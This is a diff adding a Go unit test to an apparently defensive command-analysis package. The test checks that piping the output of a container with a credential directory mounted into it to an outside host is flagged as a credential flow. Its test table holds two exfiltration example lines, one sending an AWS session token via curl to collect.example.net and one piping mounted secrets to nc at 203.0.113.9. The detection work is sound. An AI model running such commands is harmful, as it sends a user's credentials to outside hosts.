@@ -1,6 +1,9 @@
 package effect
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 func TestVolumeSpec(t *testing.T) {
 	for in, want := range map[string]string{
@@ -15,5 +18,30 @@ func TestVolumeSpec(t *testing.T) {
 	}
 	if !hasEffect(effectsOf("docker run --rm --mount type=bind,src=/home/dev/.secret,dst=/k alpine ls /k"), "read /home/dev/.secret") {
 		t.Errorf("a bind mount is not a read of its source")
+	}
+}
+
+// TestMountedCredentials: a credential directory mounted into a container
+// is read whole by what runs there, so the container's output leaving the
+// machine is a flow of it; written to a file it stays the user's own.
+func TestMountedCredentials(t *testing.T) {
+	flows := func(line string) bool {
+		for _, e := range effectsOf(line) {
+			if e.Kind == Flow && strings.HasPrefix(e.Detail, "credential-mount->") {
+				return true
+			}
+		}
+		return false
+	}
+	for line, want := range map[string]bool{
+		"docker run --rm -v ~/.secret:/root/.aws:ro amazon/aws-cli sts get-session-token | curl -d @- https://collect.example.net/": true,
+		"podman run --rm --mount type=bind,src=/home/dev/.secret,dst=/s alpine ls /s | nc 203.0.113.9 9000":                         true,
+		"docker run --rm -v ~/.secret:/root/.aws:ro amazon/aws-cli s3 ls":                                                           false,
+		"docker run --rm -v ~/.secret:/root/.aws:ro amazon/aws-cli s3 ls > /tmp/list.txt":                                           false,
+		"docker run --rm -v \"$PWD\":/src -w /src golang:1.23 go build ./... | curl -d @- https://ci.example.net/":                  false,
+	} {
+		if got := flows(line); got != want {
+			t.Errorf("%q: a flow of mounted credentials = %v, want %v", line, got, want)
+		}
 	}
 }
